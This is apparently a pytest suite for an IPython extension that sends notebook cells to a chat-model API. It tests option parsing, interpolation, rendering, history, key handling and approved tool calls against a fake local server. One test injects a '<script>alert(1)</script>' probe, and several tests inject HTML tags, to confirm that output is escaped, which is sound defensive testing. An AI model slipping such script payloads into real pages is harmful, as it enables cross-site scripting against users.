"""``%%oxen`` / ``%oxen`` on an IPython InteractiveShell, against the loopback fake API."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from IPython.core.error import UsageError
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils.capture import capture_output
from pydantic import BaseModel

import oxen_notebook
from oxen_notebook import Session, _registry
from oxen_notebook._magics import OxenCellError, OxenInterrupted, OxenMagics, interpolate, strip_fences
from oxen_notebook._render import render_markdown
from tests.conftest import TEST_KEY
from tests.fake_api import FakeAPI, Script
from tests.helpers import WIDGET_MIME


def magics(ip: InteractiveShell) -> OxenMagics:
    return ip.magics_manager.registry["OxenMagics"]


def shown(captured: Any) -> list[dict[str, Any]]:
    """The outputs a frontend would end with: updates applied by display id (the stylesheet's
    output set aside: see ``stylesheets``; so is the hidden widget that adds the code buttons)."""
    outputs: list[dict[str, Any]] = []
    for out in captured.outputs:
        if is_stylesheet(out.metadata) or WIDGET_MIME in out.data:
            continue
        display_id = (out.transient or {}).get("display_id")
        if out.update:
            for item in outputs:
                if item["id"] == display_id:
                    item.update(data=out.data, metadata=out.metadata)
            continue
        outputs.append({"id": display_id, "data": out.data, "metadata": out.metadata})
    return outputs


def is_stylesheet(metadata: Any) -> bool:
    return bool((metadata or {}).get("oxen", {}).get("stylesheet"))


def stylesheets(captured: Any) -> list[str]:
    """The stylesheet outputs a cell showed."""
    return [out.data["text/html"] for out in captured.outputs if is_stylesheet(out.metadata)]


def last_request(api: FakeAPI) -> dict[str, Any]:
    return api.chat_requests()[-1]


# -- parsing -----------------------------------------------------------------------------------


def test_options_reach_the_request(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    line = (
        "-m test-model -t 0.2 --max-tokens 300 --top-p 0.9 --frequency-penalty 0.5 "
        "--presence-penalty -0.5 -s 'You are a SQL expert' -o answer"
    )
    with capture_output():
        ip.run_cell_magic("oxen", line, "Hi there")
    body = last_request(fake_api)
    assert body["model"] == "test-model"
    assert (body["temperature"], body["max_tokens"], body["top_p"]) == (0.2, 300, 0.9)
    assert (body["frequency_penalty"], body["presence_penalty"]) == (0.5, -0.5)
    assert body["messages"][0] == {"role": "system", "content": "You are a SQL expert"}
    assert body["messages"][-1] == {"role": "user", "content": "Hi there"}
    assert ip.user_ns["answer"] == "Echo: Hi there"


def test_shlex_quoting_keeps_json_with_spaces(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    with capture_output():
        ip.run_cell_magic("oxen", """-s '{"tone": "very terse", "lang": "en"}'""", "x")
    assert last_request(fake_api)["messages"][0]["content"] == '{"tone": "very terse", "lang": "en"}'


@pytest.mark.parametrize("line", ["--bogus", "-t warm", "-f html", "--max-tokens", "-o 1x", "-o class"])
def test_bad_options_are_one_line_usage_errors(ip: InteractiveShell, fake_api: FakeAPI, line: str) -> None:
    with pytest.raises(UsageError) as info:
        ip.run_cell_magic("oxen", line, "hello")
    assert "\n" not in str(info.value).strip()
    assert fake_api.chat_requests() == []


def test_help_lists_the_options(ip: InteractiveShell) -> None:
    doc = ip.find_cell_magic("oxen").__doc__
    for option in ("--max-tokens", "--no-history", "--session", "--image", "--no-interpolate", "-o"):
        assert option in doc


def test_empty_cell_is_a_usage_error(ip: InteractiveShell) -> None:
    with pytest.raises(UsageError, match="empty"):
        ip.run_cell_magic("oxen", "", "  \n ")


# -- interpolation -----------------------------------------------------------------------------


def test_interpolation_rules() -> None:
    ns = {
        "topic": "entropy",
        "obj": SimpleNamespace(attr="A", items={"k": "V"}),
        "d": {"key": 3},
        "In": ["", "first cell"],
        "Out": {1: 42},
        "n": 3.14159,
        "danger": SimpleNamespace(__format__=None),
    }
    text = (
        "{topic} {obj.attr} {obj.items[k]} {d[key]} {In[1]} {Out[1]} {n:.2f} {missing} "
        "{obj.nope} {{literal}} {d[nokey]} {0} {}"
    )
    assert interpolate(text, ns) == (
        "entropy A V 3 first cell 42 3.14 {missing} {obj.nope} {literal} {d[nokey]} {0} {}"
    )
    assert interpolate('JSON: {"a": 1}', ns) == 'JSON: {"a": 1}'
    assert interpolate("unbalanced { brace", ns) == "unbalanced { brace"
    assert interpolate("{topic.upper()}", ns) == "{topic.upper()}"  # nothing is called


def test_prompt_as_sent_is_recorded(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    ip.user_ns.update(topic="entropy", cfg={"n": 2})
    with capture_output():
        ip.run_cell_magic("oxen", "", "Explain {topic} in {cfg[n]} sentences {unknown}")
    sent = "Explain entropy in 2 sentences {unknown}"
    assert last_request(fake_api)["messages"][-1]["content"] == sent
    assert oxen_notebook.default_session().messages[-2].content == sent
    with capture_output():
        ip.run_cell_magic("oxen", "--no-interpolate", "Keep {topic}")
    assert last_request(fake_api)["messages"][-1]["content"] == "Keep {topic}"


# -- output ------------------------------------------------------------------------------------


def test_markdown_reply_is_rendered_exactly_with_metadata_and_footer(
    ip: InteractiveShell, fake_api: FakeAPI
) -> None:
    text = "# Title\n\nSome **bold** text.\n\n<script>alert(1)</script>\n\n- a\n- b\n"
    fake_api.enqueue(Script(chunks=[text[i : i + 3] for i in range(0, len(text), 3)]))
    with capture_output() as captured:
        ip.run_cell_magic("oxen", "", "go")
    outputs = shown(captured)
    *reply, footer = outputs
    assert "".join(o["data"]["text/html"] for o in reply) == render_markdown(text)
    assert "<script>" not in "".join(o["data"]["text/html"] for o in reply)
    message = oxen_notebook.default_session().messages[-1]
    assert reply[-1]["metadata"] == {
        "oxen": {"model": "gpt-5-2-chat-latest", "message_id": message.message_id}
    }
    assert footer["metadata"]["oxen"]["message_id"] == message.message_id
    assert footer["data"]["text/plain"].startswith("gpt-5-2-chat-latest · ")
    assert "tokens" in footer["data"]["text/plain"]


def test_the_stylesheet_comes_once_before_the_reply(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    from oxen_notebook._style import style_tag

    text = "Code:\n\n```python\ndef f():\n    return 'x'\n```\n"
    fake_api.enqueue(Script(chunks=[text[i : i + 4] for i in range(0, len(text), 4)]))
    with capture_output() as captured:
        ip.run_cell_magic("oxen", "", "go")
    assert stylesheets(captured) == [style_tag()]
    assert captured.outputs[0].data["text/html"] == style_tag()  # before the code it colours
    reply = "".join(o["data"]["text/html"] for o in shown(captured)[:-1])
    assert '<span class="ox-k">def</span>' in reply and "style=" not in reply
    # Last, the hidden widget that adds Copy / Insert as cell to the reply's code blocks.
    assert WIDGET_MIME in captured.outputs[-1].data


def test_text_format_streams_plain_text(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    fake_api.enqueue(Script(chunks=["<b>not", " bold</b>\n", "line 2"]))
    with capture_output() as captured:
        ip.run_cell_magic("oxen", "-f text", "go")
    assert captured.stdout.startswith("<b>not bold</b>\nline 2\n")
    assert [o["data"].get("text/html", "") for o in shown(captured)][:-1] == []


def test_code_format_strips_fences_and_offers_a_new_cell(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    fake_api.enqueue(
        Script(chunks=["Here:\n\n```python\n", "def f():\n", "    return 1\n", "```\n", "Done."])
    )
    with capture_output() as captured:
        ip.run_cell_magic("oxen", "-f code -o snippet", "go")
    assert ip.user_ns["snippet"] == "def f():\n    return 1"
    assert ip.rl_next_input == "def f():\n    return 1"
    code_output = shown(captured)[0]
    assert code_output["data"]["text/plain"] == "def f():\n    return 1"
    assert '<pre><code class="language-python">' in code_output["data"]["text/html"]
    assert "Here" not in code_output["data"]["text/html"]


def test_json_format_parses_into_the_variable(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    fake_api.enqueue(Script(chunks=["```json\n", '{"a": [1, ', '2], "b": null}', "\n```"]))
    with capture_output() as captured:
        ip.run_cell_magic("oxen", "-f json -o data", "go")
    assert ip.user_ns["data"] == {"a": [1, 2], "b": None}
    assert shown(captured)[0]["data"]["application/json"] == {"a": [1, 2], "b": None}


def test_json_parse_failure_shows_the_text_and_a_note(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    fake_api.enqueue(Script(text="not json at all"))
    with capture_output() as captured:
        ip.run_cell_magic("oxen", "-f json -o data", "go")
    assert ip.user_ns["data"] == "not json at all"
    *reply, footer = shown(captured)
    assert "not json at all" in "".join(o["data"]["text/html"] for o in reply)
    assert "not valid JSON" in footer["data"]["text/plain"]


def test_terminal_prints_deltas(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    magics(ip).display = "text"
    fake_api.enqueue(Script(chunks=["one ", "two ", "three"]))
    with capture_output() as captured:
        ip.run_cell_magic("oxen", "", "go")
    assert captured.stdout.startswith("one two three\n[gpt-5-2-chat-latest · ")
    assert captured.outputs == []


def test_strip_fences() -> None:
    assert strip_fences("x\n```py\na\n```\ny") == ("py", "a")
    assert strip_fences("~~~~\nb\n~~~~") == ("", "b")
    assert strip_fences("\nplain\n") == ("", "plain")


# -- history -----------------------------------------------------------------------------------


def test_history_new_no_history_and_named_sessions(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    with capture_output():
        ip.run_cell_magic("oxen", "", "first")
        ip.run_cell_magic("oxen", "", "second")
    assert [m["content"] for m in last_request(fake_api)["messages"]] == ["first", "Echo: first", "second"]
    with capture_output():
        ip.run_cell_magic("oxen", "--no-history", "aside")
    assert [m["content"] for m in last_request(fake_api)["messages"]] == ["aside"]
    session = oxen_notebook.default_session()
    assert [m.content for m in session.messages][-1] == "Echo: second"
    with capture_output():
        ip.run_cell_magic("oxen", "--session other", "elsewhere")
    assert [m["content"] for m in last_request(fake_api)["messages"]] == ["elsewhere"]
    assert oxen_notebook.named_session("other").messages[0].content == "elsewhere"
    with capture_output():
        ip.run_cell_magic("oxen", "--new -s 'Be brief'", "fresh")
    assert last_request(fake_api)["messages"] == [
        {"role": "system", "content": "Be brief"},
        {"role": "user", "content": "fresh"},
    ]
    assert all(m.source == "magic" for m in session.messages if m.role != "system")


def test_config_traitlets_apply(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    ip.run_line_magic("config", "OxenMagics.temperature = 0.3")
    ip.run_line_magic("config", "OxenMagics.max_tokens = 50")
    ip.run_line_magic("config", "OxenMagics.model = 'cheap-model'")
    with capture_output():
        ip.run_cell_magic("oxen", "", "x")
    body = last_request(fake_api)
    assert (body["model"], body["temperature"], body["max_tokens"]) == ("cheap-model", 0.3, 50)
    with capture_output():
        ip.run_cell_magic("oxen", "-t 1.5", "y")
    assert last_request(fake_api)["temperature"] == 1.5


def test_load_ext_twice_is_harmless(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    first = magics(ip)
    with capture_output():
        ip.run_cell_magic("oxen", "", "remember me")
    session = oxen_notebook.default_session()
    with capture_output():
        ip.run_line_magic("load_ext", "oxen_notebook")
    from oxen_notebook._magics import load_ipython_extension

    load_ipython_extension(ip)
    assert magics(ip) is first
    assert oxen_notebook.default_session() is session
    assert session.messages[0].content == "remember me"


# -- errors ------------------------------------------------------------------------------------


def test_missing_key_says_how_to_set_it(ip: InteractiveShell, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("OXEN_API_KEY")
    with pytest.raises(OxenCellError) as info, capture_output():
        ip.run_cell_magic("oxen", "", "hi")
    assert "OXEN_API_KEY" in str(info.value) and "%oxen login" in str(info.value)
    assert info.value._render_traceback_() == [f"\x1b[31mMissingAPIKeyError\x1b[0m: {info.value}"]


@pytest.mark.parametrize(
    ("script", "line", "expected"),
    [
        (Script(status=401, error={"error": {"type": "unauthenticated"}}), "", "AuthenticationError"),
        (Script(status=402, error={"error": {"type": "insufficient_credits"}}), "", "credits"),
        (None, "-m no-such-model", "%oxen models"),
        (Script(status=429, error={"error": {"message": "slow down"}}), "", "rate limited"),
    ],
)
def test_api_errors_are_one_line_without_traceback(
    ip: InteractiveShell, fake_api: FakeAPI, script: Script | None, line: str, expected: str
) -> None:
    if script is not None:
        fake_api.enqueue(*[script] * 3)
    with capture_output() as captured:
        result = ip.run_cell(f"%%oxen {line}\nhello")
    assert isinstance(result.error_in_exec, OxenCellError)
    rendered = result.error_in_exec._render_traceback_()
    assert len(rendered) == 1 and expected in rendered[0]
    assert "Traceback" not in captured.stdout + captured.stderr


def test_connection_error(ip: InteractiveShell, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        _registry, "sessions", {"default": Session(base_url="http://127.0.0.1:9/api", max_retries=0)}
    )
    with pytest.raises(OxenCellError) as info, capture_output():
        ip.run_cell_magic("oxen", "", "hi")
    assert info.value.name == "APIConnectionError"


def test_interrupt_keeps_partial_text(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    fake_api.enqueue(Script(chunks=[f"w{i} " for i in range(200)], delay=0.002))
    session = oxen_notebook.default_session()
    seen: list[str] = []

    def stop_after_ten(event: Any) -> None:
        seen.append(event.delta)
        if len(seen) == 10:
            raise KeyboardInterrupt

    session.on("delta", stop_after_ten)
    with pytest.raises(OxenInterrupted) as info, capture_output() as captured:
        ip.run_cell_magic("oxen", "-o part", "count")
    assert "kept in history" in info.value._render_traceback_()[0]
    last = session.messages[-1]
    assert last.finish_reason == "interrupted" and last.content.startswith("w0 w1 ")
    assert ip.user_ns["part"] == last.content
    reply_html = "".join(o["data"]["text/html"] for o in shown(captured)[:-1])
    assert reply_html == render_markdown(last.content)


# -- line magic --------------------------------------------------------------------------------


def test_line_commands(ip: InteractiveShell, fake_api: FakeAPI, tmp_path: Path) -> None:
    models = ip.run_line_magic("oxen", "models cheap")
    assert list(models["id"]) == ["cheap-model"]
    with capture_output() as captured:
        ip.run_line_magic("oxen", "model test-model")
    assert "test-model" in captured.stdout and oxen_notebook.default_session().model == "test-model"
    with capture_output():
        ip.run_cell_magic("oxen", "", "one")
        ip.run_cell_magic("oxen", "", "two")
    history = ip.run_line_magic("oxen", "history")
    assert list(history["role"]) == ["user", "assistant"] * 2
    assert history["content"].iloc[-1] == "Echo: two"
    with capture_output() as captured:
        ip.run_line_magic("oxen", "undo")
    assert "2 messages" in captured.stdout
    assert len(oxen_notebook.default_session().messages) == 2
    with capture_output():
        ip.run_line_magic("oxen", f"export {tmp_path / 'chat.csv'}")
        ip.run_line_magic("oxen", f"export {tmp_path / 'chat.json'}")
    import pandas as pd

    frame = pd.read_csv(tmp_path / "chat.csv")
    assert list(frame["content"]) == ["one", "Echo: one"]
    assert [m.content for m in Session.load(tmp_path / "chat.json").messages] == ["one", "Echo: one"]
    assert json.loads(frame["params"].iloc[0]) == {}
    with pytest.raises(UsageError, match=r"\.csv, \.json or \.parquet"):
        ip.run_line_magic("oxen", f"export {tmp_path / 'chat.xlsx'}")
    with capture_output():
        ip.run_line_magic("oxen", "reset")
    assert oxen_notebook.default_session().messages == []
    with pytest.raises(UsageError, match="unknown command"):
        ip.run_line_magic("oxen", "frobnicate")


def test_parquet_export_or_a_clear_message(ip: InteractiveShell, tmp_path: Path) -> None:
    pyarrow = pytest.importorskip("pyarrow")
    with capture_output():
        ip.run_cell_magic("oxen", "", "one")
        ip.run_line_magic("oxen", f"export {tmp_path / 'chat.parquet'}")
    table = pyarrow.parquet.read_table(tmp_path / "chat.parquet")
    assert table.column("content").to_pylist() == ["one", "Echo: one"]


def test_config_never_shows_the_key(ip: InteractiveShell) -> None:
    with capture_output() as captured:
        ip.run_line_magic("oxen", "config")
    assert TEST_KEY not in captured.stdout
    assert "api key" in captured.stdout and "set" in captured.stdout
    assert "gpt-5-2-chat-latest" in captured.stdout


def test_login_keeps_the_key_in_memory(
    ip: InteractiveShell, fake_api: FakeAPI, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("OXEN_API_KEY")
    monkeypatch.setattr("getpass.getpass", lambda prompt="": TEST_KEY)
    with capture_output() as captured:
        ip.run_line_magic("oxen", "login")
        ip.run_cell_magic("oxen", "--session fresh", "hello")
    assert TEST_KEY not in captured.stdout
    assert fake_api.requests[-1]["headers"]["Authorization"] == f"Bearer {TEST_KEY}"


def test_chat_opens_the_panel_on_the_same_session(ip: InteractiveShell) -> None:
    panel = ip.run_line_magic("oxen", "chat")
    assert panel.session is oxen_notebook.default_session()
    panel.close()


def test_max_history_turns_caps_what_is_sent(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    ip.run_line_magic("config", "OxenMagics.max_history_turns = 1")
    with capture_output():
        ip.run_cell_magic("oxen", "-s 'Sys'", "one")
        ip.run_cell_magic("oxen", "", "two")
        ip.run_cell_magic("oxen", "", "three")
    assert [m["content"] for m in last_request(fake_api)["messages"]] == ["Sys", "two", "Echo: two", "three"]
    assert len(oxen_notebook.default_session().messages) == 7  # all kept in history


def test_compare_sends_to_each_model(ip: InteractiveShell, fake_api: FakeAPI) -> None:
    ip.user_ns["topic"] = "rain"
    with capture_output():
        ip.run_cell_magic("oxen", "--compare test-model,cheap-model -t 0 -o cmp", "Haiku about {topic} {x}")
    frame = ip.user_ns["cmp"]
    assert list(frame["model"]) == ["test-model", "cheap-model"]
    bodies = fake_api.chat_requests()
    assert sorted(b["model"] for b in bodies) == ["cheap-model", "test-model"]
    assert {b["messages"][-1]["content"] for b in bodies} == {"Haiku about rain {x}"}
    assert {b["temperature"] for b in bodies} == {0}


def test_reload_ext_keeps_the_default_and_named_sessions(ip, fake_api):
    with capture_output():
        ip.run_cell_magic("oxen", "", "remember me")
        ip.run_cell_magic("oxen", "--session side", "and me")
    default, side = oxen_notebook.default_session(), oxen_notebook.named_session("side")
    with capture_output():
        ip.run_line_magic("reload_ext", "oxen_notebook")
    reloaded = __import__("oxen_notebook")  # the module object, after importlib.reload
    assert reloaded.default_session() is default
    assert reloaded.named_session("side") is side
    assert [m.content for m in default.messages] == ["remember me", "Echo: remember me"]
    with capture_output():
        ip.run_cell_magic("oxen", "", "still here?")
    sent = fake_api.chat_requests()[-1]["messages"]
    assert [m["content"] for m in sent] == ["remember me", "Echo: remember me", "still here?"]
    assert len(side.messages) == 2


# -- typed results: --schema, --tools, --approve -------------------------------------------------


class Person(BaseModel):
    name: str
    age: int


@dataclass
class City:
    name: str
    country: str
    tags: list[str]


class NotAModel:
    pass


WEATHER_CALLS: list[str] = []


def get_weather(city: str) -> dict:
    """Current weather for a city."""
    WEATHER_CALLS.append(city)
    return {"temp": {"Oslo": 4, "Rome": 18}[city], "note": "<b>cold</b>" if city == "Oslo" else "warm"}


def explode(city: str) -> str:
    """Always fails."""
    raise ValueError(f"no weather in <{city}>")


@pytest.fixture
def typed_ns(ip: InteractiveShell) -> InteractiveShell:
    WEATHER_CALLS.clear()
    ip.user_ns.update(
        Person=Person,
        City=City,
        NotAModel=NotAModel,
        People=list[Person],
        get_weather=get_weather,
        explode=explode,
        count=3,
        spec={
            "title": "Pet",
            "type": "object",
            "properties": {"kind": {"type": "string"}},
            "required": ["kind"],
        },
    )
    return ip


def html_of(captured: Any) -> list[str]:
    return [o["data"].get("text/html", "") for o in shown(captured)]


TWO_CITIES = 'CALL get_weather {"city": "Oslo"} ; CALL get_weather {"city": "Rome"}'


def test_schema_by_name_gives_the_object_and_a_table_replaces_the_json(typed_ns, fake_api):
    fake_api.enqueue(Script(chunks=['{"name": "Ada <b>Lovelace</b>", ', '"age": 36}']))
    with capture_output() as captured:
        typed_ns.run_cell_magic("oxen", "--schema Person -o ada", "Ada Lovelace, born 1815, died at 36.")
    ada = typed_ns.user_ns["ada"]
    assert isinstance(ada, Person) and ada == Person(name="Ada <b>Lovelace</b>", age=36)
    sent = last_request(fake_api)["response_format"]
    assert sent["type"] == "json_schema" and sent["json_schema"]["name"] == "Person"
    table, footer = shown(captured)  # the JSON's output now shows the table; then the footer
    html = table["data"]["text/html"]
    assert html.startswith('<table class="oxen-object">') and '{"name"' not in html
    assert ">name</th>" in html and ">age</th>" in html and ">36</td>" in html
    assert "Ada &lt;b&gt;Lovelace&lt;/b&gt;" in html and "<b>" not in html
    assert json.loads(table["data"]["text/plain"]) == {"name": "Ada <b>Lovelace</b>", "age": 36}
    message = oxen_notebook.default_session().messages[-1]
    assert table["metadata"]["oxen"]["message_id"] == message.message_id
    assert message.parsed == {"name": "Ada <b>Lovelace</b>", "age": 36}
    assert footer["data"]["text/plain"].startswith("gpt-5-2-chat-latest · ")
    assert "requests" not in footer["data"]["text/plain"]  # one request reads like a plain reply


def test_a_dataclass_schema_shows_nested_values_as_compact_json(typed_ns, fake_api):
    fake_api.enqueue(Script(text='{"name": "Oslo", "country": "Norway", "tags": ["fjord", "<cold>"]}'))
    with capture_output() as captured:
        typed_ns.run_cell_magic("oxen", "--schema City -o oslo", "Oslo")
    assert typed_ns.user_ns["oslo"] == City("Oslo", "Norway", ["fjord", "<cold>"])
    html = html_of(captured)[0]
    assert ">Norway</td>" in html
    assert '["fjord", "&lt;cold&gt;"]</td>' in html  # compact JSON, escaped


def test_a_json_schema_dict_by_name(typed_ns, fake_api):
    fake_api.enqueue(Script(text='{"kind": "cat"}'))
    with capture_output() as captured:
        typed_ns.run_cell_magic("oxen", "--schema spec -o pet", "a pet")
    assert typed_ns.user_ns["pet"] == {"kind": "cat"}
    assert last_request(fake_api)["response_format"]["json_schema"]["name"] == "Pet"
    assert ">cat</td>" in html_of(captured)[0]


@pytest.mark.parametrize("name", ["'list[Person]'", "People"])
def test_a_list_schema_is_a_dataframe_table(typed_ns, fake_api, name):
    fake_api.enqueue(Script(text='{"items": [{"name": "Ada", "age": 36}, {"name": "<i>Bo</i>", "age": 7}]}'))
    with capture_output() as captured:
        typed_ns.run_cell_magic("oxen", f"--schema {name} -o people", "two people")
    assert typed_ns.user_ns["people"] == [Person(name="Ada", age=36), Person(name="<i>Bo</i>", age=7)]
    table, _ = shown(captured)
    html = table["data"]["text/html"]
    assert html.startswith('<table class="dataframe">')
    assert "<th>name</th>" in html and "<th>age</th>" in html
    assert "<td>Ada</td>" in html and "<td>36</td>" in html and "<td>7</td>" in html
    assert "&lt;i&gt;Bo&lt;/i&gt;" in html and "<i>" not in html
    assert "items" not in html


def test_a_schema_error_keeps_the_raw_text_and_fails_in_one_line(typed_ns, fake_api):
    typed_ns.user_ns["ada"] = "before"
    fake_api.enqueue(Script(text='{"name": "Ada"}'), Script(text='{"nom": "<Ada>"}'))
    with capture_output() as captured:
        result = typed_ns.run_cell("%%oxen --schema Person -o ada\nAda")
    error = result.error_in_exec
    assert isinstance(error, OxenCellError) and error.name == "SchemaError"
    rendered = error._render_traceback_()
    assert len(rendered) == 1 and "\n" not in rendered[0] and "does not match Person" in rendered[0]
    first, note, second, footer = shown(captured)
    assert first["data"]["text/html"] == render_markdown('{"name": "Ada"}')
    assert (
        note["data"]["text/plain"] == "↻ the reply does not match Person: age: Field required; asking again"
    )
    assert second["data"]["text/html"] == render_markdown('{"nom": "<Ada>"}')  # raw, escaped by the renderer
    assert "2 requests · 1 repair · " in footer["data"]["text/plain"]
    assert typed_ns.user_ns["ada"] == "before"  # -o is only for a validated object
    assert "Traceback" not in captured.stdout + captured.stderr


def test_max_repairs_passes_through(typed_ns, fake_api):
    fake_api.enqueue(Script(text='{"name": "Ada"}'))
    with pytest.raises(OxenCellError, match="does not match Person"), capture_output():
        typed_ns.run_cell_magic("oxen", "--schema Person --max-repairs 0", "Ada")
    assert len(fake_api.chat_requests()) == 1


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("--schema Nobody", "'Nobody'"),
        ("--schema count", "count is an int, not a pydantic model"),
        ("--schema NotAModel", "NotAModel cannot be a schema: expected a pydantic model"),
        ("--schema 'list[spec]'", "spec is a dict; list[...] takes"),
        ("--schema 'Person()'", "Person()"),
        ("--tools nothing_here", "'nothing_here'"),
        ("--tools get_weather,count", "count is an int, not a function"),
        ("--tools Person", "Person is a class, not a function"),
        ("--tools ,", "needs function names"),
        ("--approve", "--approve goes with --tools"),
        ("--max-tool-rounds 2", "--max-tool-rounds goes with --tools"),
        ("--max-repairs 2", "--max-repairs goes with --schema"),
        ("--tools get_weather --max-tool-rounds 0", "at least 1"),
        ("--schema Person --max-repairs -1", "at least 0"),
        ("--schema Person -f json", "drop -f json"),
        ("--schema Person --compare a,b", "--compare"),
    ],
)
def test_bad_names_and_option_mixes_are_one_line_usage_errors(typed_ns, fake_api, line, expected):
    with pytest.raises(UsageError) as info:
        typed_ns.run_cell_magic("oxen", line, "hello")
    message = str(info.value).strip()
    assert "\n" not in message and expected in message
    assert fake_api.chat_requests() == []


def test_tools_by_name_run_in_a_loop_with_a_line_per_call(typed_ns, fake_api):
    with capture_output() as captured:
        typed_ns.run_cell_magic("oxen", "-m tool-model --tools get_weather,explode -o answer", TWO_CITIES)
    assert WEATHER_CALLS == ["Oslo", "Rome"]
    first, second = fake_api.chat_requests()
    assert [t["function"]["name"] for t in first["tools"]] == ["get_weather", "explode"]
    assert [m["role"] for m in second["messages"]] == ["user", "assistant", "tool", "tool"]
    oslo, rome, answer, footer = shown(captured)
    assert oslo["data"]["text/plain"] == '→ get_weather(city="Oslo") = {"temp": 4, "note": "<b>cold</b>"}'
    assert "&lt;b&gt;cold&lt;/b&gt;" in oslo["data"]["text/html"] and "<b>" not in oslo["data"]["text/html"]
    assert oslo["metadata"] == {"oxen": {"tool_call_id": "call_0_0"}}
    assert rome["data"]["text/plain"] == '→ get_weather(city="Rome") = {"temp": 18, "note": "warm"}'
    text = typed_ns.user_ns["answer"]
    assert text.startswith("Results: get_weather[call_0_0] = ") and answer["data"][
        "text/html"
    ] == render_markdown(text)
    facts = footer["data"]["text/plain"]
    assert facts.startswith("tool-model · 2 requests · 2 tool calls · ") and facts.endswith(" s")
    turn_tokens = sum(
        m.total_tokens for m in oxen_notebook.default_session().messages if m.role == "assistant"
    )
    assert f" · {turn_tokens} tokens · " in facts  # summed over the turn's requests


def test_a_failing_tool_is_a_line_with_its_error(typed_ns, fake_api):
    with capture_output() as captured:
        typed_ns.run_cell_magic("oxen", "-m tool-model --tools explode", 'CALL explode {"city": "Oslo"}')
    line = shown(captured)[0]
    assert line["data"]["text/plain"] == '→ explode(city="Oslo") failed: ValueError: no weather in <Oslo>'
    assert "&lt;Oslo&gt;" in line["data"]["text/html"]
    assert "1 tool call (1 failed)" in shown(captured)[-1]["data"]["text/plain"]
    # Not the grey of a call that worked: the warning colour and an icon.
    assert 'class="oxen-tool-failed"' in line["data"]["text/html"] and "⚠" in line["data"]["text/html"]
    assert "--jp-warn-color1" in line["data"]["text/html"]


def test_a_tool_that_worked_is_a_plain_line(typed_ns, fake_api):
    with capture_output() as captured:
        typed_ns.run_cell_magic(
            "oxen", "-m tool-model --tools get_weather", 'CALL get_weather {"city": "Oslo"}'
        )
    line = shown(captured)[0]["data"]["text/html"]
    assert "oxen-tool-failed" not in line and "⚠" not in line and "warn" not in line


def test_max_tool_rounds_passes_through_and_fails_in_one_line(typed_ns, fake_api):
    with capture_output() as captured:
        result = typed_ns.run_cell(
            '%%oxen -m tool-model --tools get_weather --max-tool-rounds 1\nCALL get_weather {"city": "Oslo"} LOOP'
        )
    error = result.error_in_exec
    assert (
        isinstance(error, OxenCellError) and error.name == "ToolLoopError" and "after 1 rounds" in str(error)
    )
    assert len(fake_api.chat_requests()) == 2
    outputs = shown(captured)
    assert (
        outputs[0]["data"]["text/plain"] == '→ get_weather(city="Oslo") = {"temp": 4, "note": "<b>cold</b>"}'
    )
    assert "2 requests · 1 tool call" in outputs[-1]["data"]["text/plain"]


def test_approve_asks_before_each_call(typed_ns, fake_api, monkeypatch):
    answers = iter(["y", "n"])
    prompts: list[str] = []
    monkeypatch.setattr("builtins.input", lambda prompt="": prompts.append(prompt) or next(answers))
    with capture_output() as captured:
        typed_ns.run_cell_magic("oxen", "-m tool-model --tools get_weather --approve", TWO_CITIES)
    assert prompts == ['run get_weather(city="Oslo")? [y/N] ', 'run get_weather(city="Rome")? [y/N] ']
    assert WEATHER_CALLS == ["Oslo"]
    oslo, rome, answer, footer = shown(captured)
    assert oslo["data"]["text/plain"].startswith('→ get_weather(city="Oslo") = {"temp": 4')
    assert rome["data"]["text/plain"] == '→ get_weather(city="Rome") denied'
    assert "call_0_1] = denied by the user" in answer["data"]["text/html"]
    assert "2 tool calls (1 denied)" in footer["data"]["text/plain"]
    tools = [m for m in oxen_notebook.default_session().messages if m.role == "tool"]
    assert [m.error for m in tools] == [None, "denied by the user"]


@pytest.mark.parametrize("answer", ["", "no", "Y es", "maybe"])
def test_approve_runs_only_on_y_or_yes(typed_ns, fake_api, monkeypatch, answer):
    monkeypatch.setattr("builtins.input", lambda prompt="": answer)
    with capture_output():
        typed_ns.run_cell_magic("oxen", "-m tool-model --tools get_weather --approve", TWO_CITIES)
    assert WEATHER_CALLS == []
    monkeypatch.setattr("builtins.input", lambda prompt="": " YES ")
    with capture_output():
        typed_ns.run_cell_magic("oxen", "-m tool-model --tools get_weather --approve", TWO_CITIES)
    assert WEATHER_CALLS == ["Oslo", "Rome"]


def test_interrupting_the_approval_prompt_denies_and_stops_the_turn(typed_ns, fake_api, monkeypatch):
    def interrupted(prompt=""):
        raise KeyboardInterrupt

    monkeypatch.setattr("builtins.input", interrupted)
    with pytest.raises(OxenInterrupted, match="approval prompt"), capture_output() as captured:
        typed_ns.run_cell_magic("oxen", "-m tool-model --tools get_weather --approve", TWO_CITIES)
    assert WEATHER_CALLS == [] and len(fake_api.chat_requests()) == 1  # nothing sent after the round
    assert [o["data"]["text/plain"] for o in shown(captured)[:2]] == [
        '→ get_weather(city="Oslo") denied',
        '→ get_weather(city="Rome") denied',
    ]
    session = oxen_notebook.default_session()
    assert [m.role for m in session.messages] == ["user", "assistant", "tool", "tool"]  # sendable
    with capture_output():
        typed_ns.run_cell_magic("oxen", "", "thanks")
    assert last_request(fake_api)["messages"][-1] == {"role": "user", "content": "thanks"}


def test_approve_without_a_way_to_answer_denies_and_says_why(typed_ns, fake_api, monkeypatch):
    def no_stdin(prompt=""):
        raise EOFError

    monkeypatch.setattr("builtins.input", no_stdin)
